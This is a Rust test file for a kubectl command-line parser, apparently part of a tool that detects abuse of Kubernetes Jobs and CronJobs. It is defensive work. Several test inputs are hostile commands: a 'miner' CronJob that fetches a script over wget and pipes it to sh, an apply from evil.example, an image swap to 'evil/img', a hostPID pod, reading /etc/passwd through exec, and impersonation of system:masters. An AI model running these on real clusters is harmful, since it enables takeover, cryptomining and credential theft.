//! kubectl command lines, table-driven: each row is a command line as a person or script would
//! type it and what kubectl itself would make of it.

use jobwarden_host::kubectl::{self, Action, DryRun, KubectlInvocation, ManifestKind};

/// What a row expects; `None` fields are not checked.
#[derive(Default)]
struct Want {
    verb: &'static str,
    sub: Option<&'static str>,
    /// `Kind` or `Kind/name`, in order.
    resources: Option<&'static [&'static str]>,
    namespace: Option<Option<&'static str>>,
    all_ns: Option<bool>,
    files: Option<&'static [(&'static str, ManifestKind)]>,
    from: Option<&'static str>,
    dry_run: Option<Option<DryRun>>,
    action: Option<Action>,
    batch: Option<bool>,
    token: Option<bool>,
    impersonate: Option<&'static str>,
    server: Option<&'static str>,
    context: Option<&'static str>,
    image: Option<&'static str>,
    schedule: Option<&'static str>,
    after: Option<&'static [&'static str]>,
    output: Option<&'static str>,
    manifest_kinds: Option<&'static [&'static str]>,
}

fn render(inv: &KubectlInvocation) -> Vec<String> {
    inv.resources
        .iter()
        .map(|r| match &r.name {
            Some(n) => format!("{}/{n}", r.kind),
            None => r.kind.clone(),
        })
        .collect()
}

fn check(line: &str, want: Want) {
    let all = kubectl::parse_command_line(line);
    let inv = all
        .last()
        .unwrap_or_else(|| panic!("no kubectl found in {line:?}"));
    let ctx = format!("{line:?} -> {inv:#?}");
    assert_eq!(inv.verb, want.verb, "verb of {ctx}");
    if let Some(sub) = want.sub {
        assert_eq!(inv.subcommand.as_deref(), Some(sub), "subcommand of {ctx}");
    }
    if let Some(r) = want.resources {
        assert_eq!(
            render(inv),
            r.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            "resources of {ctx}"
        );
    }
    if let Some(ns) = want.namespace {
        assert_eq!(inv.namespace.as_deref(), ns, "namespace of {ctx}");
    }
    if let Some(a) = want.all_ns {
        assert_eq!(inv.all_namespaces, a, "all-namespaces of {ctx}");
    }
    if let Some(files) = want.files {
        let got: Vec<(&str, ManifestKind)> = inv
            .files
            .iter()
            .map(|f| (f.path.as_str(), f.kind))
            .collect();
        assert_eq!(got, files.to_vec(), "files of {ctx}");
    }
    if let Some(from) = want.from {
        let f = inv.from.as_ref().expect("from");
        assert_eq!(
            format!("{}/{}", f.kind, f.name.as_deref().unwrap_or("")),
            from,
            "from of {ctx}"
        );
    }
    if let Some(d) = want.dry_run {
        assert_eq!(inv.dry_run, d, "dry-run of {ctx}");
    }
    if let Some(a) = want.action {
        assert_eq!(inv.action(), a, "action of {ctx}");
    }
    if let Some(b) = want.batch {
        assert_eq!(inv.touches_batch(), b, "batch of {ctx}");
    }
    if let Some(t) = want.token {
        assert_eq!(inv.token_flag_present, t, "token of {ctx}");
    }
    if let Some(user) = want.impersonate {
        assert_eq!(
            inv.impersonate.as_ref().and_then(|i| i.user.as_deref()),
            Some(user),
            "as of {ctx}"
        );
    }
    if let Some(s) = want.server {
        assert_eq!(inv.server.as_deref(), Some(s), "server of {ctx}");
    }
    if let Some(c) = want.context {
        assert_eq!(inv.context.as_deref(), Some(c), "context of {ctx}");
    }
    if let Some(i) = want.image {
        assert_eq!(inv.image.as_deref(), Some(i), "image of {ctx}");
    }
    if let Some(s) = want.schedule {
        assert_eq!(inv.schedule.as_deref(), Some(s), "schedule of {ctx}");
    }
    if let Some(after) = want.after {
        assert_eq!(
            inv.command_after_dashdash,
            after.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            "after -- of {ctx}"
        );
    }
    if let Some(o) = want.output {
        assert_eq!(inv.output.as_deref(), Some(o), "output of {ctx}");
    }
    if let Some(k) = want.manifest_kinds {
        assert_eq!(
            inv.manifest_kinds,
            k.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            "manifest kinds of {ctx}"
        );
    }
}

use ManifestKind::{Directory, File, Stdin, Url};

#[test]
fn mitre_seed_command_lines() {
    check(
        "kubectl get jobs",
        Want {
            verb: "get",
            resources: Some(&["Job"]),
            action: Some(Action::Read),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl create job my-job --from=cronjob/nightly",
        Want {
            verb: "create",
            sub: Some("job"),
            resources: Some(&["Job/my-job"]),
            from: Some("CronJob/nightly"),
            action: Some(Action::Write),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f cronjob.yaml",
        Want {
            verb: "apply",
            files: Some(&[("cronjob.yaml", File)]),
            action: Some(Action::Write),
            manifest_kinds: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl create -f src/cronjob.yaml -n default",
        Want {
            verb: "create",
            files: Some(&[("src/cronjob.yaml", File)]),
            namespace: Some(Some("default")),
            action: Some(Action::Write),
            batch: Some(true),
            ..Want::default()
        },
    );
    // The seed strings hold even when the manifest's kind is not visible.
    check(
        "kubectl apply -f deploy/",
        Want {
            verb: "apply",
            files: Some(&[("deploy/", Directory)]),
            action: Some(Action::Write),
            batch: Some(false),
            ..Want::default()
        },
    );
    check(
        "kubectl create -f manifest.yml",
        Want {
            verb: "create",
            files: Some(&[("manifest.yml", File)]),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
}

#[test]
fn resource_spellings() {
    for (line, want) in [
        ("kubectl get job", &["Job"][..]),
        ("kubectl get jobs.batch", &["Job"]),
        ("kubectl get job.v1.batch", &["Job"]),
        ("kubectl get cronjobs", &["CronJob"]),
        ("kubectl get cronjob", &["CronJob"]),
        ("kubectl get cj", &["CronJob"]),
        ("kubectl get cronjob.batch/nightly", &["CronJob/nightly"]),
        ("kubectl get cronjobs/nightly", &["CronJob/nightly"]),
        ("kubectl get jobs,cronjobs", &["Job", "CronJob"]),
        ("kubectl get cj,po", &["CronJob", "Pod"]),
        ("kubectl get all", &["all"]),
        (
            "kubectl describe cronjob nightly weekly",
            &["CronJob/nightly", "CronJob/weekly"],
        ),
        ("kubectl describe cronjobs.v1beta1.batch x", &["CronJob/x"]),
        ("kubectl get jobs/a cronjob/b", &["Job/a", "CronJob/b"]),
        ("kubectl get JOBS", &["Job"]),
        (
            "kubectl get jobs.batch.volcano.sh",
            &["jobs.batch.volcano.sh"],
        ),
    ] {
        check(
            line,
            Want {
                verb: line.split(' ').nth(1).unwrap_or_default(),
                resources: Some(want),
                ..Want::default()
            },
        );
    }
    check(
        "kubectl get all -A",
        Want {
            verb: "get",
            batch: Some(true),
            all_ns: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl get deployments",
        Want {
            verb: "get",
            batch: Some(false),
            ..Want::default()
        },
    );
}

#[test]
fn global_flags_anywhere() {
    check(
        "kubectl -n prod get cj",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj -n prod",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj --namespace=prod",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            ..Want::default()
        },
    );
    check(
        "kubectl --namespace prod get cj",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj -nprod",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj -n=prod",
        Want {
            verb: "get",
            namespace: Some(Some("prod")),
            ..Want::default()
        },
    );
    check(
        "kubectl -A get jobs",
        Want {
            verb: "get",
            all_ns: Some(true),
            resources: Some(&["Job"]),
            ..Want::default()
        },
    );
    check(
        "kubectl get jobs --all-namespaces",
        Want {
            verb: "get",
            all_ns: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl get jobs --all-namespaces=false",
        Want {
            verb: "get",
            all_ns: Some(false),
            ..Want::default()
        },
    );
    // `-An`: a boolean then a value flag in one group; the value is the next argument.
    check(
        "kubectl get jobs -Ao wide",
        Want {
            verb: "get",
            all_ns: Some(true),
            output: Some("wide"),
            resources: Some(&["Job"]),
            ..Want::default()
        },
    );
    check(
        "kubectl --context prod-admin --kubeconfig /tmp/k get cronjobs",
        Want {
            verb: "get",
            context: Some("prod-admin"),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl --context=prod-admin get cronjobs",
        Want {
            verb: "get",
            context: Some("prod-admin"),
            ..Want::default()
        },
    );
    check(
        "kubectl -s https://10.0.0.1:6443 --token abc get cj",
        Want {
            verb: "get",
            server: Some("https://10.0.0.1:6443"),
            token: Some(true),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl --server=https://10.0.0.1:6443 --token=abc --insecure-skip-tls-verify get cj",
        Want {
            verb: "get",
            server: Some("https://10.0.0.1:6443"),
            token: Some(true),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl --insecure-skip-tls-verify get cj",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl --as system:serviceaccount:kube-system:cronjob-controller create job x --image=busybox",
        Want {
            verb: "create",
            sub: Some("job"),
            impersonate: Some("system:serviceaccount:kube-system:cronjob-controller"),
            ..Want::default()
        },
    );
    check(
        "kubectl create job x --image=busybox --as=admin --as-group=system:masters",
        Want {
            verb: "create",
            impersonate: Some("admin"),
            ..Want::default()
        },
    );
    check(
        "kubectl --user=admin --cluster=prod get cj",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl -v=8 get cj",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl -v 8 get cj",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj --request-timeout 5s -o yaml",
        Want {
            verb: "get",
            output: Some("yaml"),
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl get cj -l app=x",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            ..Want::default()
        },
    );
}

#[test]
fn create_and_run_forms() {
    check(
        "kubectl create cronjob miner --image=alpine --schedule='*/1 * * * *' -- sh -c 'wget -qO- http://x/m | sh'",
        Want {
            verb: "create",
            sub: Some("cronjob"),
            resources: Some(&["CronJob/miner"]),
            image: Some("alpine"),
            schedule: Some("*/1 * * * *"),
            after: Some(&["sh", "-c", "wget -qO- http://x/m | sh"]),
            ..Want::default()
        },
    );
    check(
        "kubectl create cj x --image busybox --schedule '@hourly'",
        Want {
            verb: "create",
            sub: Some("cj"),
            resources: Some(&["CronJob/x"]),
            image: Some("busybox"),
            schedule: Some("@hourly"),
            ..Want::default()
        },
    );
    check(
        "kubectl create job test --image=busybox -- date",
        Want {
            verb: "create",
            resources: Some(&["Job/test"]),
            after: Some(&["date"]),
            ..Want::default()
        },
    );
    check(
        "kubectl create job --from=cronjob/backup backup-manual-1 -n ops",
        Want {
            verb: "create",
            resources: Some(&["Job/backup-manual-1"]),
            from: Some("CronJob/backup"),
            namespace: Some(Some("ops")),
            ..Want::default()
        },
    );
    check(
        "kubectl create job x --from cronjob/y",
        Want {
            verb: "create",
            from: Some("CronJob/y"),
            ..Want::default()
        },
    );
    check(
        "kubectl create job x --from=cj/y",
        Want {
            verb: "create",
            from: Some("CronJob/y"),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl run pwn --image=alpine --restart=Never -- sh",
        Want {
            verb: "run",
            resources: Some(&["Pod/pwn"]),
            after: Some(&["sh"]),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl run legacy --image=alpine --restart=OnFailure",
        Want {
            verb: "run",
            resources: Some(&["Job/legacy"]),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl run legacy --image=alpine --schedule='* * * * *'",
        Want {
            verb: "run",
            resources: Some(&["CronJob/legacy"]),
            ..Want::default()
        },
    );
    check(
        "kubectl run x --image=alpine --restart Never --overrides '{\"spec\":{\"hostPID\":true}}'",
        Want {
            verb: "run",
            resources: Some(&["Pod/x"]),
            ..Want::default()
        },
    );
    check(
        "kubectl create deployment web --image=nginx",
        Want {
            verb: "create",
            sub: Some("deployment"),
            batch: Some(false),
            ..Want::default()
        },
    );
    check(
        "kubectl create --raw /apis/batch/v1/namespaces/default/cronjobs -f cj.json",
        Want {
            verb: "create",
            resources: Some(&["CronJob"]),
            namespace: Some(Some("default")),
            ..Want::default()
        },
    );
    check(
        "kubectl get --raw /apis/batch/v1/cronjobs",
        Want {
            verb: "get",
            resources: Some(&["CronJob"]),
            action: Some(Action::Read),
            ..Want::default()
        },
    );
}

#[test]
fn manifests_files_urls_stdin() {
    check(
        "kubectl apply -f https://evil.example/cj.yaml",
        Want {
            verb: "apply",
            files: Some(&[("https://evil.example/cj.yaml", Url)]),
            manifest_kinds: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f - < cronjob.yaml",
        Want {
            verb: "apply",
            files: Some(&[("-", Stdin)]),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f a.yaml -f b.yml,c.json",
        Want {
            verb: "apply",
            files: Some(&[("a.yaml", File), ("b.yml", File), ("c.json", File)]),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -Rf manifests",
        Want {
            verb: "apply",
            files: Some(&[("manifests", Directory)]),
            ..Want::default()
        },
    );
    check(
        "kubectl apply --filename=jobs/",
        Want {
            verb: "apply",
            files: Some(&[("jobs/", Directory)]),
            manifest_kinds: Some(&["Job"]),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -k overlays/prod",
        Want {
            verb: "apply",
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl replace -f cj.yaml --force",
        Want {
            verb: "replace",
            files: Some(&[("cj.yaml", File)]),
            manifest_kinds: Some(&["CronJob"]),
            ..Want::default()
        },
    );
    check(
        "kubectl create job x --image=alpine --dry-run=client -o yaml | kubectl create -f -",
        Want {
            verb: "create",
            files: Some(&[("-", Stdin)]),
            manifest_kinds: Some(&["Job"]),
            batch: Some(true),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "cat <<EOF | kubectl apply -f -\napiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: x\nEOF",
        Want {
            verb: "apply",
            files: Some(&[("-", Stdin)]),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f - <<EOF\nkind: Job\nEOF",
        Want {
            verb: "apply",
            manifest_kinds: Some(&["Job"]),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "curl -s https://x/cj.yaml | kubectl apply -f -",
        Want {
            verb: "apply",
            manifest_kinds: Some(&["CronJob"]),
            ..Want::default()
        },
    );
}

#[test]
fn whole_pipelines_feed_stdin() {
    check(
        "kubectl get cronjob backup -o yaml | sed 's/image: .*/image: evil/' | kubectl replace -f -",
        Want {
            verb: "replace",
            manifest_kinds: Some(&["CronJob"]),
            batch: Some(true),
            ..Want::default()
        },
    );
}

#[test]
fn dry_runs() {
    check(
        "kubectl create job x --image=a --dry-run",
        Want {
            verb: "create",
            dry_run: Some(Some(DryRun::Client)),
            action: Some(Action::Other),
            ..Want::default()
        },
    );
    check(
        "kubectl create job x --image=a --dry-run=client -o yaml",
        Want {
            verb: "create",
            dry_run: Some(Some(DryRun::Client)),
            output: Some("yaml"),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f cj.yaml --dry-run=server",
        Want {
            verb: "apply",
            dry_run: Some(Some(DryRun::Server)),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl apply -f cj.yaml --dry-run=none",
        Want {
            verb: "apply",
            dry_run: Some(Some(DryRun::None)),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    // pflag: an implicit-value flag never takes the next word; `client` becomes a positional.
    check(
        "kubectl create job x --dry-run client --image=a",
        Want {
            verb: "create",
            dry_run: Some(Some(DryRun::Client)),
            resources: Some(&["Job/x"]),
            ..Want::default()
        },
    );
}

#[test]
fn changes_to_existing_objects() {
    check(
        "kubectl set image cronjob/backup backup=evil/img:latest -n ops",
        Want {
            verb: "set",
            sub: Some("image"),
            resources: Some(&["CronJob/backup"]),
            namespace: Some(Some("ops")),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl set image cronjobs backup backup=evil/img",
        Want {
            verb: "set",
            resources: Some(&["CronJob/backup"]),
            ..Want::default()
        },
    );
    check(
        "kubectl patch cronjob backup -p '{\"spec\":{\"suspend\":false}}'",
        Want {
            verb: "patch",
            resources: Some(&["CronJob/backup"]),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl patch cj/backup --type=json -p='[]'",
        Want {
            verb: "patch",
            resources: Some(&["CronJob/backup"]),
            ..Want::default()
        },
    );
    check(
        "kubectl edit cronjob backup",
        Want {
            verb: "edit",
            resources: Some(&["CronJob/backup"]),
            action: Some(Action::Write),
            ..Want::default()
        },
    );
    check(
        "kubectl label cronjob backup team=x",
        Want {
            verb: "label",
            resources: Some(&["CronJob/backup"]),
            ..Want::default()
        },
    );
    check(
        "kubectl annotate cj backup a=b c-",
        Want {
            verb: "annotate",
            resources: Some(&["CronJob/backup"]),
            ..Want::default()
        },
    );
    check(
        "kubectl delete jobs --all -n ops",
        Want {
            verb: "delete",
            resources: Some(&["Job"]),
            action: Some(Action::Delete),
            ..Want::default()
        },
    );
    check(
        "kubectl delete cronjob art",
        Want {
            verb: "delete",
            resources: Some(&["CronJob/art"]),
            action: Some(Action::Delete),
            ..Want::default()
        },
    );
    check(
        "kubectl rollout restart deployment/web",
        Want {
            verb: "rollout",
            sub: Some("restart"),
            batch: Some(false),
            ..Want::default()
        },
    );
}

#[test]
fn exec_auth_and_others() {
    check(
        "kubectl exec -it web-1 -- sh",
        Want {
            verb: "exec",
            resources: Some(&["Pod/web-1"]),
            after: Some(&["sh"]),
            action: Some(Action::Exec),
            ..Want::default()
        },
    );
    check(
        "kubectl exec -n prod -c app web-1 -- cat /etc/passwd",
        Want {
            verb: "exec",
            namespace: Some(Some("prod")),
            resources: Some(&["Pod/web-1"]),
            ..Want::default()
        },
    );
    check(
        "kubectl auth can-i create cronjobs",
        Want {
            verb: "auth",
            sub: Some("can-i"),
            resources: Some(&["CronJob"]),
            action: Some(Action::Read),
            batch: Some(true),
            ..Want::default()
        },
    );
    check(
        "kubectl auth can-i create cronjobs.batch -n kube-system",
        Want {
            verb: "auth",
            resources: Some(&["CronJob"]),
            namespace: Some(Some("kube-system")),
            ..Want::default()
        },
    );
    check(
        "kubectl auth can-i --list",
        Want {
            verb: "auth",
            sub: Some("can-i"),
            batch: Some(false),
            ..Want::default()
        },
    );
    check(
        "kubectl logs job/backup-123",
        Want {
            verb: "logs",
            resources: Some(&["Job/backup-123"]),
            action: Some(Action::Read),
            ..Want::default()
        },
    );
    check(
        "kubectl wait --for=condition=complete job/x --timeout 60s",
        Want {
            verb: "wait",
            resources: Some(&["Job/x"]),
            ..Want::default()
        },
    );
    check(
        "kubectl version --client",
        Want {
            verb: "version",
            action: Some(Action::Other),
            ..Want::default()
        },
    );
    check(
        "kubectl config use-context prod",
        Want {
            verb: "config",
            action: Some(Action::Other),
            ..Want::default()
        },
    );
}

#[test]
fn programs_and_wrappers() {
    for line in [
        "/usr/local/bin/kubectl get cronjobs",
        "./kubectl get cronjobs",
        "kubectl.exe get cronjobs",
        "oc get cronjobs",
        "sudo kubectl get cronjobs",
        "sudo -u admin -E kubectl get cronjobs",
        "env KUBECONFIG=/etc/kubernetes/admin.conf kubectl get cronjobs",
        "KUBECONFIG=/tmp/k kubectl get cronjobs",
        "sh -c 'kubectl get cronjobs'",
        "bash -lc \"kubectl get cronjobs | grep x\"",
        "/bin/sh -c \"cd /tmp && kubectl get cronjobs\"",
        "timeout 30 kubectl get cronjobs",
        "nohup kubectl get cronjobs",
        "microk8s kubectl get cronjobs",
        "k3s kubectl get cronjobs",
        "echo $(kubectl get cronjobs -o name)",
        "for x in a; do kubectl get cronjobs; done",
    ] {
        check(
            line,
            Want {
                verb: "get",
                resources: Some(&["CronJob"]),
                ..Want::default()
            },
        );
    }
    // `k` is an alias only a shell knows; the process is kubectl itself.
    assert!(kubectl::parse_command_line("k get cronjobs").is_empty());
    assert!(kubectl::parse(&["kubectx", "get", "cronjobs"]).is_none());
    assert!(kubectl::parse(&["kubectl"]).is_some_and(|k| k.verb.is_empty()));
}

#[test]
fn parse_takes_an_argv() {
    let inv = kubectl::parse(&[
        "kubectl",
        "create",
        "job",
        "x",
        "--from=cronjob/y",
        "-n",
        "prod",
    ])
    .expect("kubectl");
    assert_eq!(inv.verb, "create");
    assert_eq!(inv.batch_name(), Some("x"));
    assert_eq!(inv.namespace.as_deref(), Some("prod"));
}
